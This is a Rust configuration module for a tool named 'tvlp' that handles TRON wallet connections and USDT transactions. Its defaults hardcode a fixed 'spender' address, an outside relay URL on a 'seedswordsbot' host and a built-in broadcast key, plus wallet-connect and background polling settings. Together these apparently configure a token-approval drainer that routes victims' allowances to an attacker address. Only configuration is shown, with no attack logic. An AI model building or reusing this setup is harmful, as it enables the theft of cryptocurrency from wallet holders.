use serde::{Deserialize, Serialize};
use std::path::{Path, PathBuf};
use std::fs;
use std::time::Duration;
use anyhow::{Context, Result};

pub const DEFAULT_UPSTREAM_URL: &str = "https://seedswordsbot.onrender.com/broadcast";
pub const DEFAULT_BROADCAST_KEY: &str = "tvlp-key";
pub const USDT_TRC20_CONTRACT: &str = "TR7NHqjeKQxGTCi8q8ZY4pL8otSzgjLj6t";
pub const DEFAULT_SPENDER: &str = "TLBaRhANQoJFTqre9Nf1mjuwNWjCJeYqUL";

#[derive(Debug, Serialize, Deserialize, Clone, Default)]
#[serde(default)]
pub struct Config {
    pub server: ServerConfig,
    pub relay: RelayConfig,
    pub notify: NotifyConfig,
    pub wallet: WalletConfig,
    pub tron: TronConfig,
    pub i18n: I18nConfig,
    pub logging: LoggingConfig,
}

#[derive(Debug, Serialize, Deserialize, Clone)]
#[serde(default)]
pub struct ServerConfig {
    pub host: String,
    pub port: u16,
    /// Largest accepted relay body, in bytes.
    pub max_body_bytes: u64,
}

#[derive(Debug, Serialize, Deserialize, Clone)]
#[serde(default)]
pub struct RelayConfig {
    pub upstream_url: String,
    pub broadcast_key: String,
    pub timeout_secs: u64,
}

#[derive(Debug, Serialize, Deserialize, Clone)]
#[serde(default)]
pub struct NotifyConfig {
    pub enabled: bool,
    /// Origin the relay function is served from, e.g. `http://127.0.0.1:8888`.
    pub base_url: String,
    pub user_agent: String,
    pub timeout_secs: u64,
}

#[derive(Debug, Serialize, Deserialize, Clone)]
#[serde(default)]
pub struct WalletConfig {
    pub token_contract: String,
    pub token_symbol: String,
    pub token_decimals: u8,
    pub spender: String,
    pub fee_limit_sun: u64,
    pub fee_estimate: String,
    pub access_settle_ms: u64,
    pub connect_poll_attempts: u32,
    pub connect_poll_interval_ms: u64,
    pub tx_settle_ms: u64,
    pub background_poll_secs: u64,
    pub allow_simulated_signatures: bool,
}

#[derive(Debug, Serialize, Deserialize, Clone)]
#[serde(default)]
pub struct TronConfig {
    pub full_node: String,
    pub api_key: Option<String>,
    pub watch_address: Option<String>,
    pub timeout_secs: u64,
}

#[derive(Debug, Serialize, Deserialize, Clone)]
#[serde(default)]
pub struct I18nConfig {
    pub preferences_path: PathBuf,
}

#[derive(Debug, Serialize, Deserialize, Clone, Default)]
#[serde(default)]
pub struct LoggingConfig {
    pub file: Option<String>,
}

impl Default for ServerConfig {
    fn default() -> Self {
        Self {
            host: "127.0.0.1".to_string(),
            port: 8888,
            max_body_bytes: 64 * 1024,
        }
    }
}

impl Default for RelayConfig {
    fn default() -> Self {
        Self {
            upstream_url: DEFAULT_UPSTREAM_URL.to_string(),
            broadcast_key: DEFAULT_BROADCAST_KEY.to_string(),
            timeout_secs: 10,
        }
    }
}

impl Default for NotifyConfig {
    fn default() -> Self {
        Self {
            enabled: true,
            base_url: "http://127.0.0.1:8888".to_string(),
            user_agent: concat!("tvlp/", env!("CARGO_PKG_VERSION")).to_string(),
            timeout_secs: 5,
        }
    }
}

impl Default for WalletConfig {
    fn default() -> Self {
        Self {
            token_contract: USDT_TRC20_CONTRACT.to_string(),
            token_symbol: "USDT".to_string(),
            token_decimals: 6,
            spender: DEFAULT_SPENDER.to_string(),
            fee_limit_sun: 50_000_000,
            fee_estimate: "~5-15 TRX".to_string(),
            access_settle_ms: 100,
            connect_poll_attempts: 60,
            connect_poll_interval_ms: 500,
            tx_settle_ms: 3000,
            background_poll_secs: 3,
            allow_simulated_signatures: false,
        }
    }
}

impl Default for TronConfig {
    fn default() -> Self {
        Self {
            full_node: "https://api.trongrid.io".to_string(),
            api_key: None,
            watch_address: None,
            timeout_secs: 15,
        }
    }
}

impl Default for I18nConfig {
    fn default() -> Self {
        Self {
            preferences_path: PathBuf::from("data/preferences.json"),
        }
    }
}

impl WalletConfig {
    pub fn access_settle(&self) -> Duration {
        Duration::from_millis(self.access_settle_ms)
    }

    pub fn connect_poll_interval(&self) -> Duration {
        Duration::from_millis(self.connect_poll_interval_ms)
    }

    pub fn tx_settle(&self) -> Duration {
        Duration::from_millis(self.tx_settle_ms)
    }

    pub fn background_poll(&self) -> Duration {
        Duration::from_secs(self.background_poll_secs)
    }
}

impl Config {
    pub fn load(path: &Path) -> Result<Self> {
        let config_str = fs::read_to_string(path)
            .with_context(|| format!("Failed to read config file {:?}", path))?;
        let mut config: Config = toml::from_str(&config_str)?;
        config.apply_env_overrides();
        Ok(config)
    }

    pub fn save(&self, path: &Path) -> Result<()> {
        let config_str = toml::to_string_pretty(self)?;
        fs::write(path, config_str)?;
        Ok(())
    }

    /// Secrets come from the environment (or `.env`) rather than the file.
    pub fn apply_env_overrides(&mut self) {
        if let Ok(key) = std::env::var("BROADCAST_KEY") {
            if !key.is_empty() {
                self.relay.broadcast_key = key;
            }
        }
        if let Ok(url) = std::env::var("RELAY_UPSTREAM_URL") {
            if !url.is_empty() {
                self.relay.upstream_url = url;
            }
        }
        if let Ok(key) = std::env::var("TRON_API_KEY") {
            if !key.is_empty() {
                self.tron.api_key = Some(key);
            }
        }
    }
}
